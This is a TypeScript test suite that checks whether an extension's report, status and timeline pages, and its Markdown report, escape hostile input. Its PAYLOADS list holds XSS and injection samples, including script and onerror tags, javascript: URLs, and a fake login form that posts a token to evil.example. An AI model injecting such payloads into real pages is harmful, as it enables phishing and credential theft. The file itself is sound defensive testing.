// Every page and the Markdown report, rendered with hostile text in each field of a realistic model
// in turn (a report can come from another machine or a planted file): the output may hold no
// element, attribute, link or image the page does not write itself.
import * as assert from 'assert';
import { Parser } from 'htmlparser2';
import { renderRecoveryReport } from '../../../src/core/reportMarkdown';
import { BLOCKED_URL, pageHtml } from '../../../src/views/pages/html';
import { renderReportBody, reportTitle } from '../../../src/views/pages/reportHtml';
import { renderStatusBody, statusTitle } from '../../../src/views/pages/statusHtml';
import { timelineHtml } from '../../../src/views/pages/timelineHtml';
import { fixtureChanges, fixtureRemote, fixtureReport, fixtureStatus, fixtureTimelineShell } from '../support/pageFixtures';

// markdown-it is in node_modules (VS Code's preview is built on it), without type declarations.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownIt = require('markdown-it') as new (o: { html: boolean; linkify: boolean }) => { render(text: string): string };

const NOW = Date.parse('2026-12-01T12:10:00.000Z');

export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><a href="https://evil.example/login">Sign in again</a>',
  "'><a href='https://evil.example'>x</a><b title='",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example/steal"><input name="token"><button>Continue</button></form>',
  'javascript:alert(1)',
  '![x](https://evil.example/p.png)',
  '[click](https://evil.example)',
  '<img src=https://evil.example/p.png>',
  '<https://evil.example/auto>',
  'see https://evil.example/p.png or www.evil.example or evil.example/x',
  '<svg onload=alert(1)><style>body{display:none}</style>',
  '<!-- hidden --><![CDATA[x]]>',
  'line one\n# heading\n- item\n\n| a | b |\n| --- | --- |\n| c | d |\n```\ncode',
  '`code` *em* _em_ ~~s~~ &amp; &lt;b&gt; \\<i>',
  '\u202Egnp.exe\u202C admin\u200B\u2066x\u2069\uFEFF',
  '__proto__',
  'x'.repeat(10_000) + '<b>bold</b>',
];

type Path = (string | number)[];

/** Every string or number leaf of `value` (a file read back can carry text where a number belongs). */
export function leafPaths(value: unknown, path: Path = []): Path[] {
  if (typeof value === 'string' || typeof value === 'number') return [path];
  if (Array.isArray(value)) return value.flatMap((v, i) => leafPaths(v, [...path, i]));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, v]) => leafPaths(v, [...path, k]));
  return [];
}

export function withLeaf<T>(value: T, path: Path, leaf: string): T {
  const copy = structuredClone(value);
  let at = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path[path.length - 1]!] = leaf;
  return copy;
}

/** What a page writes: each element's tag with its attribute names (counted), comments, URL and action values. */
interface Shape { elements: Map<string, number>; urls: Set<string>; actions: Set<string> }

const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'poster', 'srcset', 'background', 'data', 'ping'];

function shapeOf(html: string): Shape {
  const shape: Shape = { elements: new Map(), urls: new Set(), actions: new Set() };
  const count = (key: string): void => void shape.elements.set(key, (shape.elements.get(key) ?? 0) + 1);
  const parser = new Parser({
    onopentag(name, attribs) {
      count(`<${name} ${Object.keys(attribs).sort().join(' ')}>`);
      for (const a of URL_ATTRIBUTES) if (a in attribs) shape.urls.add(attribs[a]!);
      if ('data-action' in attribs) shape.actions.add(attribs['data-action']!);
    },
    oncomment: () => count('<!-- -->'),
    onprocessinginstruction: name => count(`<${name.toLowerCase()}>`),
  });
  parser.write(html);
  parser.end();
  return shape;
}

/** What `hostile` holds beyond what `benign` does: new elements or attributes, more of them, other URLs or actions. */
function beyond(benign: Shape, hostile: Shape): string[] {
  const extra: string[] = [];
  for (const [key, n] of hostile.elements) if (n > (benign.elements.get(key) ?? 0)) extra.push(`${key} ×${n - (benign.elements.get(key) ?? 0)}`);
  for (const u of hostile.urls) if (!benign.urls.has(u) && u !== BLOCKED_URL) extra.push(`url ${u}`);
  for (const a of hostile.actions) if (!benign.actions.has(a)) extra.push(`action ${a}`);
  return extra;
}

/** Renders `model` as is, then with each payload in each leaf; returns what leaked, by field. */
function leaks<M>(model: M, render: (m: M) => string): string[] {
  const benign = shapeOf(render(model));
  const found: string[] = [];
  const paths = leafPaths(model);
  assert.ok(paths.length > 5, 'the fixture has fields to fill');
  for (const path of paths) {
    for (const payload of PAYLOADS) {
      let out: string;
      try {
        out = render(withLeaf(model, path, payload));
      } catch (err) {
        found.push(`${path.join('.')}: threw ${(err as Error).message}`);
        continue;
      }
      const extra = beyond(benign, shapeOf(out));
      if (extra.length) found.push(`${path.join('.')} = ${JSON.stringify(payload.slice(0, 60))}: ${extra.join(', ')}`);
    }
  }
  return found;
}

const page = (title: string, body: unknown): string => String(pageHtml({ title, body: body as never, nonce: 'N0nce' }));

describe('pages and the Markdown report with hostile text in every field', function () {
  it('the recovery report page (this folder\'s, with what arrived since)', function () {
    const model = { report: fixtureReport(), changes: fixtureChanges() };
    const found = leaks(model, m => page(reportTitle(m.report, NOW), renderReportBody(m.report, NOW, m.changes)));
    assert.deepStrictEqual(found, []);
  });

  it('another machine\'s recovery report page (team mode)', function () {
    const model = { report: fixtureReport(), remote: fixtureRemote() };
    const found = leaks(model, m => page(reportTitle(m.report, NOW), renderReportBody(m.report, NOW, undefined, m.remote)));
    assert.deepStrictEqual(found, []);
  });

  it('the status page', function () {
    const found = leaks(fixtureStatus(), m => page(statusTitle(m.folderName), renderStatusBody(m, NOW)));
    assert.deepStrictEqual(found, []);
  });

  it('the timeline shell', function () {
    const found = leaks(fixtureTimelineShell(), m => String(timelineHtml(m)));
    assert.deepStrictEqual(found, []);
  });

  it('the Markdown report, as a linkifying preview with HTML enabled renders it', function () {
    const md = new MarkdownIt({ html: true, linkify: true });
    const benignText = renderRecoveryReport(fixtureReport());
    assert.doesNotMatch(benignText, /!\[|\]\(|</, 'the fixture itself writes no link, image or tag');
    const found = leaks(fixtureReport(), r => {
      const text = renderRecoveryReport(r);
      // The raw text too: an editor or another renderer may read it without markdown-it's rules.
      const raw = [/!\[/, /\]\(/, /</].filter(re => re.test(text)).map(re => `raw ${re.source}`);
      return md.render(text) + raw.map(r => `<raw-markdown-leak data-what="${r}">`).join('');
    });
    assert.deepStrictEqual(found, []);
  });

  it('ids in the report page show their bidi and zero-width characters', function () {
    const r = fixtureReport();
    const spoof = (id: string): string => `${id}\u202E\u200B`;
    r.incomplete_tasks.forEach(t => { t.task_id = spoof(t.task_id); t.agent_id = spoof(t.agent_id!); });
    r.stale_agents.forEach(a => (a.agent_id = spoof(a.agent_id)));
    r.crash_frontier.agents_active_at_crash.forEach(a => (a.agent_id = spoof(a.agent_id)));
    r.last_decisions.forEach(d => { d.decision_type = spoof(d.decision_type); d.agent_id = spoof(d.agent_id!); });
    r.alerts!.forEach(a => (a.subject.id = spoof(a.subject.id)));
    const remote = { host: spoof('ci-runner'), user: spoof('alice') };
    const out = String(renderReportBody(r, NOW, undefined, remote));
    assert.doesNotMatch(out, /[\u200B\u202E]/);
    for (const shown of ['write-docs⟨U+202E⟩⟨U+200B⟩', 'researcher⟨U+202E⟩⟨U+200B⟩', 'looper⟨U+202E⟩⟨U+200B⟩', 'ci-runner⟨U+202E⟩⟨U+200B⟩', 'alice⟨U+202E⟩⟨U+200B⟩']) {
      assert.ok(out.includes(shown), shown);
    }
  });
});
